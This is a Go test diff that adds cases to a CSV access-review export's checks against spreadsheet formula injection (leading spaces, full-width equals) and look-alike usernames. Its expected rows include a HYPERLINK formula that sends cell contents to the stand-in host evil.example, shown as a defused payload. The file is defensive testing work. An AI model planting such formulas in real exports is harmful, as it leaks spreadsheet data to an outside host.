@@ -150,6 +150,10 @@ func TestAccessReviewDefusesFormulas(t *testing.T) {
 			{ID: "u4", UserName: "d", Email: "@SUM(1+1)", Active: true},
 			{ID: "u5", UserName: "e", Email: "=1+2@example.com", Active: true},
 			{ID: "u6", UserName: "f", Email: "'o@example.com", DisplayName: "'quoted", Active: true},
+			// Spaces before a formula (an import that trims reads it), and
+			// a full-width equals sign.
+			{ID: "u7", UserName: "g", Email: "g@example.com", DisplayName: "  =1+1", Active: true},
+			{ID: "u8", UserName: "h", Email: "h@example.com", DisplayName: "\uff1d1+1", Active: true},
 		},
 		Teams: []model.Team{{ID: "g1", Name: "-ops", Members: []model.Member{{UserID: "u1"}, {UserID: "u2", Role: "=cmd"}}}},
 	}
@@ -162,6 +166,8 @@ func TestAccessReviewDefusesFormulas(t *testing.T) {
 		{`'=HYPERLINK("http://evil.example/?"&B2,"click")`, "c", "", "true", "", "", "", ""},
 		{"'@SUM(1+1)", "d", "", "true", "", "", "", ""},
 		{"a@example.com", "'+1handle", `'=HYPERLINK("http://x/?"&A1,"open")`, "true", "'@role", "'-ops", "", ""},
+		{"g@example.com", "g", "'  =1+1", "true", "", "", "", ""},
+		{"h@example.com", "h", `\uff1d1+1`, "true", "", "", "", ""},
 	}
 	if d := cmp.Diff(want, rows); d != "" {
 		t.Errorf("rows (-want +got):\n%s", d)
@@ -216,12 +222,13 @@ func TestAccessReviewTeamsSeparatorsEscaped(t *testing.T) {
 
 // TestAccessReviewLookAlikeUsername: a userName that equals the email only
 // when a character outside ASCII is folded (a Kelvin sign for the k) is a
-// handle of its own, shown in the username column.
+// handle of its own, shown in the username column (escaped: it passes for
+// an ASCII k).
 func TestAccessReviewLookAlikeUsername(t *testing.T) {
 	st := model.State{Users: []model.User{{ID: "u1", UserName: "\u212Aate@example.com", Email: "kate@example.com", Active: true}}}
 	rows := reviewRows(t, st)
 	col := slices.Index(AccessReviewHeader, "username")
-	if col < 0 || rows[1][col] != "\u212Aate@example.com" {
+	if col < 0 || rows[1][col] != `\u212aate@example.com` { // escaped: it passes for kate@
 		t.Errorf("row %q, want the look-alike userName in column %d", rows[1], col)
 	}
 }
